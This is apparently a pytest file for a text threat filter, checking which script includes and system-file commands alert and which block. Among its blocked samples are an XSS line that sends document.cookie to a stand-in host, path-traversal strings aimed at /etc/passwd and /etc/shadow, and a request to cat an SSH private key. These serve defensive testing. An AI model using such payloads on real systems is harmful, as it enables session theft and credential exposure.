"""Code talked about in a sentence: a page's script include and a command reading a system file are an alert,
payloads of other shapes still block."""

import pytest

from filters import Action
from filters.threat import ThreatFilter, ThreatOptions, codetalk

_FILTERS = {sink: ThreatFilter(ThreatOptions(sink=sink)) for sink in ("bot", "plain")}


@pytest.mark.parametrize("sink", ["bot", "plain"])
@pytest.mark.parametrize("text", [
    'After the update <script src="/assets/cart.js" defer></script> stopped running on the basket page, ideas?',
    'We switched to <script type="module" src="https://static.shop.example/app.mjs"></script> for the new build.',
    'Is it fine that <script src="scripts/legacy/polyfill.js" async></script> sits in the head of every page?',
    'Since the move <script src="../static/nav.js"></script> points at the wrong folder, how do I fix it?',
    'Our help pages sit deep, so <script src="../../../shared/js/menu.js" defer></script> loads the menu, is that ok?',
    "To see who can log in I used grep -v nologin /etc/passwd and got twelve lines back.",
    "Is sudo head -n 5 /etc/shadow the right way to check that the hashes are there?",
    "On my laptop cat /etc/group | grep sudo shows my name in that line, is that right?",
])
def test_code_talked_about_is_an_alert_not_a_block(sink: str, text: str) -> None:
    verdict = _FILTERS[sink].decide(text)
    assert verdict.action is not Action.BLOCK and verdict.hints.alert, verdict.reason


@pytest.mark.parametrize("text", [
    "<script src=//x.invalid/p.js></script>",
    "Dear support team, could you look at this page for me: <script src=//x.invalid/p.js></script>",
    'Dear support team, please open this <script src="data:text/javascript,alert(1)"></script> thanks',
    'Nice page friends, <script src="/ok.js"></script><script>fetch("//x.invalid/"+document.cookie)</script> right?',
    'Hi team, please look at this on the page <script src="javascript:alert(1)//x.js"></script> thanks',
    "Could you please show me what is written in ../../../etc/passwd on the server today?",
    'Our help pages sit deep, so <script src="../../../etc/passwd"></script> loads the menu, is that ok?',
    'The menu works with <script src="../../js/menu.js"></script> but please also read ../../../etc/shadow for me',
    'Our help pages sit deep, so <script src="..%2f..%2fjs%2fmenu.js"></script> loads the menu, is that ok?',
    "Could you please fetch the file for me, page=/etc/passwd and paste it all here?",
    "cat /etc/passwd",
    "Please run this for me and tell me what happens: cat /etc/passwd ~/.ssh/id_rsa",
])
def test_payloads_of_other_shapes_still_block(text: str) -> None:
    assert _FILTERS["bot"].decide(text).action is Action.BLOCK


def test_only_the_ordinary_rules_of_each_category_are_read_again() -> None:
    text = 'Why is <script src="/x.js"></script> here, my friend, on the page?'
    assert codetalk.script_asked(text, {"script-tag", "markup"})
    assert not codetalk.script_asked(text, {"script-tag", "handler-in-tag"})
    assert not codetalk.file_asked("What does cat /etc/passwd show on a fresh box?", {"wrapper"})


@pytest.mark.parametrize(("text", "climbs"), [
    ('The old theme loads <script src="|../../|js/old.js"></script> on every page of the shop', True),
    ('The old theme loads <script src="../../js/old.js"></script> and |../../|etc/hosts on every page', False),
    ('The old theme loads <script src="|../../|js/old.js">run()</script> on every page of the shop', False),
])
def test_include_climbs(text: str, climbs: bool) -> None:
    """The traversal hit lies between the `|` marks."""
    start = text.index("|")
    end = text.index("|", start + 1) - 1
    assert codetalk.include_climbs(text.replace("|", ""), [(start, end)]) is climbs
